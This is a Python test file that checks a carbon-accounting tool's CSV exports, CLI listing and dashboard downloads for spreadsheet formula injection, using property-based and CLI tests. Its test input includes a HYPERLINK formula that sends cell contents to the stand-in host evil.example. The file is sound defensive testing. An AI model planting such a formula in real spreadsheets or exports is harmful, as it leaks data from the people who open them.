"""CSV outputs never hand a spreadsheet a formula: text cells starting with ``=``, ``+``,
``-``, ``@``, a tab or a CR get a leading ``'``; numbers are unchanged; greenai's importer
strips the ``'`` again, so an export re-imports to the same values."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from dashboard.tables import csv_text
from greenai.cli.main import app
from greenai.interop.formula_cells import FORMULA_STARTS, neutralise_text, restore_text
from greenai.reports.outputs import runs_csv
from tests.interop.conftest import import_file, ledger_runs
from tests.interop.files import row, write_csv

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"open")'


@given(st.text())
def test_restoring_undoes_neutralising_every_text(text: str) -> None:
    assert restore_text(neutralise_text(text)) == text


@given(st.text())
def test_a_neutralised_cell_never_starts_a_formula_unless_a_number(text: str) -> None:
    cell = neutralise_text(text)
    if cell.startswith(FORMULA_STARTS):
        assert cell == text
        float(cell)  # only numbers such as -2.5 or +1e3 keep their sign


def test_numbers_are_left_alone() -> None:
    for number in ("-2.5", "+1e3", "-.5", "0", "-7"):
        assert neutralise_text(number) == number
    assert neutralise_text("-2.5 kg") == "'-2.5 kg"


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_runs_list_csv_and_codecarbon_export_protect_text_and_re_import(
    tmp_path: Path,
) -> None:
    url = f"sqlite:///{tmp_path / 'a.db'}"
    source = write_csv(tmp_path / "emissions.csv", [row(0, project_name=HOSTILE)])
    assert import_file(source, url).exit_code == 0
    runner = CliRunner()
    listed = runner.invoke(app, ["runs", "list", "--format", "csv", "--db", url])
    assert listed.exit_code == 0, listed.output
    (cells,) = _cells(listed.stdout)
    assert cells["project"] == "'" + HOSTILE
    assert cells["energy_j"] and not cells["energy_j"].startswith("'")
    exported = runner.invoke(app, ["runs", "list", "--format", "codecarbon", "--db", url])
    (cc_cells,) = _cells(exported.stdout)
    assert cc_cells["project_name"] == "'" + HOSTILE
    again = tmp_path / "again.csv"
    again.write_text(exported.stdout, encoding="utf-8")
    other = f"sqlite:///{tmp_path / 'b.db'}"
    assert import_file(again, other).exit_code == 0
    assert [r["project"] for r in ledger_runs(other)] == [HOSTILE]


def test_report_csv_cells_protect_text_not_numbers() -> None:
    text = runs_csv({"runs": [{"run_id": "@run", "project": HOSTILE, "energy_it_kwh": -2.5}]})
    (cells,) = _cells(text)
    assert cells["run_id"] == "'@run" and cells["project"] == "'" + HOSTILE
    assert cells["energy_it_kwh"] == "-2.5"


def test_dashboard_download_protects_text_not_numbers() -> None:
    table = pd.DataFrame({"Model": ["+cmd", "plain"], "J/token mean": [-1.5, 2.0]})
    (first, second) = _cells(csv_text(table))
    assert (first["Model"], first["J/token mean"]) == ("'+cmd", "-1.5")
    assert second["Model"] == "plain"
